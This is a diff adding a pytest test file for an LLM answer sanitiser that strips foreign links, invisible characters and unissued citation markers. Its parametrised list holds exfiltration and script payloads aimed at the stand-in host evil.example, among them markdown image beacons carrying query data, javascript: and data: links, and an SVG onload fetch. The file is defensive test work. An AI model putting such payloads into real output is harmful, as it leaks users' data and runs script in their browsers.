@@ -1,0 +1,119 @@
+"""The model's text made into an answer."""
+
+from __future__ import annotations
+
+import pytest
+
+from agent.responders.llm_text import answer_from, own_markers, visible, without_foreign_links
+from tests.agent.llm_cast import CANADA, HITS, RETURNS, hit, passage
+
+SHOWN = [RETURNS, CANADA]
+
+
+@pytest.mark.parametrize(
+    "evil",
+    [
+        "![x](https://evil.example/?q=1)",
+        "![x][ref]\n\n[ref]: https://evil.example/?q=1",
+        "[click](https://evil.example)",
+        "[click](javascript:alert(1))",
+        "[click](data:text/html;base64,AAAA)",
+        "[click](//evil.example)",
+        "[click](https://shop.example.evil.example/returns)",
+        "[click](https://shop.example/returns?name=Maya)",
+        "[click](https://shop.example@evil.example/)",
+        "[click](<https://evil.example/>)",
+        '[click](https://evil.example "title")',
+        "[click][ref]\n\n[ref]: https://evil.example",
+        "<https://evil.example>",
+        "https://evil.example/path",
+        "www.evil.example",
+        "evil.example/?q=1",
+        '<img src="https://evil.example/?q=1">',
+        '<a href="https://evil.example">x</a>',
+        "<svg/onload=fetch('//evil.example')>",
+        "ftp://evil.example/x",
+        "\u200bhttps://evil.example",
+    ],
+)
+def test_no_foreign_address_is_left(evil: str) -> None:
+    text = without_foreign_links(visible(f"[1] Before {evil}\n\nafter."), SHOWN)
+    assert "evil" not in text
+    assert "javascript" not in text
+    assert "?name" not in text
+    assert "[1]" in text
+
+
+@pytest.mark.parametrize(
+    "own",
+    ["[the form](https://shop.example/returns)", "https://shop.example/help/2", "[a](https://shop.example/help/1/)"],
+)
+def test_links_that_a_shown_passage_has_stay(own: str) -> None:
+    assert own in without_foreign_links(f"See {own} [1].", SHOWN)
+
+
+def test_comparisons_are_not_taken_for_tags() -> None:
+    assert without_foreign_links("5 < 6 and a <b", SHOWN) == "5 < 6 and a <b"
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ("A [1].", "A [1]."),
+        ("A [1][2].", "A [1][2]."),
+        ("A [1, 2].", "A [1][2]."),
+        ("A 【1】.", "A [1]."),
+        ("A 【1†source】.", "A [1]."),
+        ("A [^2].", "A [2]."),
+        ("A [passage 1].", "A [1]."),
+        ("A [Source 2].", "A [2]."),
+        ("A [7].", "A."),
+        ("A [1][99].", "A [1]."),
+        ("A [0].", "A."),
+        ("array[x] stays", "array[x] stays"),
+    ],
+)
+def test_markers_are_read_in_any_spelling_and_only_if_issued(written: str, read: str) -> None:
+    assert own_markers(written, {1: RETURNS, 2: CANADA}) == read
+
+
+def test_invisible_characters_are_removed() -> None:
+    assert visible("a\u200b\u202eb\U000e0041c\x00\ud800d\ne") == "abcd\ne"
+
+
+def test_a_very_long_answer_is_bounded() -> None:
+    assert len(visible("x" * 1_000_000)) < 10_000
+
+
+def test_the_quote_of_a_citation_is_the_sentence_that_supports_the_answer() -> None:
+    _, (citation,), _ = answer_from("Sale items cannot be returned [1].", HITS, [], embed=None)
+    assert citation.quote == "Sale items cannot be returned."
+    assert citation.url == "https://shop.example/help/1"
+
+
+def test_a_sentence_keeps_a_marker_when_the_neighbour_that_carried_it_is_dropped() -> None:
+    text = "Sale items cannot be returned. All returns are free for 99 years [1]."
+    said, citations, _ = answer_from(text, HITS, [], embed=None)
+    assert said == "Sale items cannot be returned. [1]"
+    assert len(citations) == 1
+
+
+def test_the_intro_of_a_list_goes_when_no_item_is_left() -> None:
+    said, _, _ = answer_from("Sale items cannot be returned [1].\n\nAlso:\n\n- free boats [1]", HITS, [], embed=None)
+    assert said == "Sale items cannot be returned [1]."
+
+
+def test_lists_keep_their_layout() -> None:
+    steps = passage(5, "Reset", "1. Hold the button down.\n2. Wait for the red light.")
+    text = "To reset it:\n\n1. Hold the button down [1].\n2. Wait for the red light [1]."
+    said, _, _ = answer_from(text, [hit(steps)], [], embed=None)
+    assert said == text
+
+
+def test_an_empty_text_is_an_empty_answer() -> None:
+    assert answer_from("", HITS, [], embed=None) == ("", (), ())
+
+
+def test_cleaning_takes_time_in_proportion_to_the_text() -> None:
+    for hostile in ("[" * 6_000, "![" * 3_000, "<" * 6_000, "[a](" * 1_500, "a." * 3_000, "[1," * 2_000):
+        answer_from(hostile, HITS, [], embed=None)
